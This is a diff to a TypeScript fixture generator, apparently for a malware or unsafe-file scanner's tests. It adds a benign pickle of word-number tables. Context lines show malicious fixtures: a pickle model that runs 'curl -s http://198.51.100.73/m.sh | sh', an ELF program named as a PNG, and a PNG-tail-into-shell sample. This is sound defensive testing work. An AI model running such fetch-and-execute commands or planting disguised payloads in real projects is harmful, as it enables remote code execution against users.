@@ -27,6 +27,22 @@ function zip(files: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
   return zipSync(entries, { level: 6, mtime: WHEN });
 }
 
+/** A pickle of a table of numbers by words, four for each: protocol 2, no opcode that names or calls anything. */
+function pickleOfNumbers(table: Readonly<Record<string, readonly number[]>>): Uint8Array {
+  const rows = Object.entries(table).map(([word, numbers]) => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32LE(Buffer.byteLength(word));
+    const doubles = numbers.map((number) => {
+      const bytes = Buffer.alloc(9);
+      bytes.write("G", "latin1");
+      bytes.writeDoubleBE(number, 1);
+      return bytes;
+    });
+    return Buffer.concat([Buffer.from("X"), length, Buffer.from(`${word}(`), ...doubles, Buffer.from("t")]);
+  });
+  return Buffer.concat([Buffer.from([0x80, 2]), Buffer.from("}("), ...rows, Buffer.from("u.")]);
+}
+
 /** A 64-bit Linux program of one instruction sequence: exit(0). */
 function elf(): Uint8Array {
   const code = Uint8Array.from([0xb8, 0x3c, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05]);
@@ -110,6 +126,15 @@ write(
   ),
 );
 write("malicious/pickle-model-calls-shell/mail-triage/model/classifier.pkl", pickleOf("curl -s http://198.51.100.73/m.sh | sh"));
+write(
+  "benign/pickle-of-numbers-only/letter-box/table/words.pkl",
+  pickleOfNumbers({
+    overdue: [0.9, 0.7, 0.1, 0],
+    alarm: [2, 0.4, 0, 0],
+    question: [0.1, 1.2, 0.3, 0],
+    sale: [0, 0, 0.4, 0.7],
+  }),
+);
 write("malicious/program-named-as-picture/readme-banner/assets/banner.png", elf());
 write(
   "malicious/png-tail-piped-into-shell/pixel-pet/assets/sprite.png",
